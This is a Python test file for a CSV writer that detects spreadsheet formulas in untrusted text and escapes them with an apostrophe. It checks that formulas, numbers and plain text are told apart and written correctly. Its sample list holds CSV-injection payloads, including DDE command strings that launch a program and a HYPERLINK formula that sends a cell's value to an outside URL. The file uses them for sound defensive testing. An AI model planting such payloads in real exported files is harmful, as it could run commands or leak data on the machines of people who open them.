"""CSV of texts from elsewhere: no cell of it is a formula, and nothing else is changed."""

import csv
from pathlib import Path

import pytest

from nettrain.training.artifacts.spreadsheet import CsvText, csv_text, is_formula

# After OWASP's page on CSV injection, and signed numbers and texts that are none.
FORMULAS = [
    "=1+1", "=cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "+cmd|' /C calc'!A0", "-2+3+cmd|x",
    '=HYPERLINK("http://example.org?x="&A1)', "\t=1+1", "\r=1", "\n=1", "\uff1d1+1", "\uff0bA1",
    "\uff0dA1", "\uff20SUM(A1)", "=", "@", "-A1", "+A1", "-1.5.x", "@name", "-\u0663 \u0664",
]  # fmt: skip
TEXTS = [
    "", "-", "--", "+", "-1", "+1.5e-3", "-1,5", "-1.234,56", "-5 %", "-$5", "+41 44 123 45 67",
    "-2024-01-31", "'=1", "a=1", "1-2", "007", "2024-01-31", "red rose", "x@example.org", "\u22125",
]  # fmt: skip


def test_formulas_are_told_from_texts_and_numbers():
    assert [text for text in FORMULAS if not is_formula(text)] == []
    assert [text for text in TEXTS if is_formula(text)] == []


@pytest.mark.parametrize("delimiter", [",", "\t"])
def test_only_formulas_are_written_behind_an_apostrophe(delimiter):
    text = CsvText(delimiter)
    numbers = list(range(-len(TEXTS), 0))
    blocks = [[FORMULAS, [-1.5] * len(FORMULAS)], [TEXTS, numbers], [[None, True], [False, -2]]]
    written = b"".join(text.chunks(["=name", "value"], blocks)).decode()
    header, *rows = csv.reader(written.splitlines(keepends=True), delimiter=delimiter)
    assert header == ["'=name", "value"] and text.guarded == len(FORMULAS) + 1
    expected = [[f"'{one}", "-1.5"] for one in FORMULAS]
    expected += [[one, str(number)] for one, number in zip(TEXTS, numbers, strict=True)]
    assert rows == [*expected, ["", "false"], ["true", "-2"]]


def test_lists_and_objects_are_written_as_in_json():
    cells = [["ü", 1, True], {"a": Path("b")}, [], "=1"]
    assert csv_text(["a"], [[cell] for cell in cells]).decode().splitlines() == [
        "a", '"[""ü"", 1, true]"', '"{""a"": ""b""}"', "[]", "'=1",
    ]  # fmt: skip


def test_tables_of_sweeps_and_reproductions_hold_no_formula():
    text = csv_text(["trial", "=a"], [[0, "=1+1"], [-1.5, "-x"], [None, True]])
    assert text == b"trial,'=a\n0,'=1+1\n-1.5,'-x\n,true\n"
    assert csv_text(["a"], []) == b"a\n"
